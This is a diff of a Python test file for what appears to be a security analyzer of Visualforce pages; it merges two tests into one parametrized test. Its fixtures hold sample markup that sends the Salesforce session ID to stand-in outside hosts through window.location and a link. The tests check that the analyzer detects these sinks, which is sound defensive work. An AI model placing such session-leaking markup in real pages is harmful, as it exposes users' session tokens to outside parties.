@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import time
 
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
@@ -165,29 +166,24 @@ def test_self_closing_script_and_style_are_whole_elements() -> None:
     assert len(sessions(ir)) == 2
 
 
-def test_visualforce_tags_inside_a_script_do_not_stop_its_analysis() -> None:
-    ir = lower(page(
-        "<script>\n"
-        "  var ids = [];\n"
-        '  <apex:repeat var="a" value="{!rows}">\n'
-        "    ids.push('{!a.Id}');\n"
-        "  </apex:repeat>\n"
-        "  window.location.href = 'https://collector.example.com/in?sid={!$Api.Session_ID}';\n"
-        "</script>"
-    ))
-    assert ir.notifications == ()
-    assert sink(ir, "window.location").in_query
-
-
-def test_a_greater_than_sign_in_text_is_text() -> None:
+@pytest.mark.parametrize(("body", "sink_name"), [
+    # Visualforce tags inside a script repeat its lines; the script goes on after them
+    ("<script>\n"
+     "  var ids = [];\n"
+     '  <apex:repeat var="a" value="{!rows}">\n'
+     "    ids.push('{!a.Id}');\n"
+     "  </apex:repeat>\n"
+     "  window.location.href = 'https://collector.example.com/in?sid={!$Api.Session_ID}';\n"
+     "</script>", "window.location"),
     # `<span>></span>` is well-formed XML; the HTML grammar alone calls it an error
-    ir = lower(page(
-        '<div class="pager"><span class="next">></span> <span>1 -> 2</span></div>\n'
-        "<script>if (a > b) { var x = '<b>'; }</script>\n"
-        '<a href="https://x.example.com/?s={!$Api.Session_ID}">go</a>'
-    ))
+    ('<div class="pager"><span class="next">></span> <span>1 -> 2</span></div>\n'
+     "<script>if (a > b) { var x = '<b>'; }</script>\n"
+     '<a href="https://x.example.com/?s={!$Api.Session_ID}">go</a>', "a.href"),
+], ids=["apex-repeat-in-script", "greater-than-in-text"])
+def test_markup_the_html_grammar_alone_misreads_is_read_whole(body: str, sink_name: str) -> None:
+    ir = lower(page(body))
     assert ir.notifications == ()
-    assert sink(ir, "a.href").in_query
+    assert sink(ir, sink_name).in_query
 
 
 def test_markup_url_sinks() -> None:
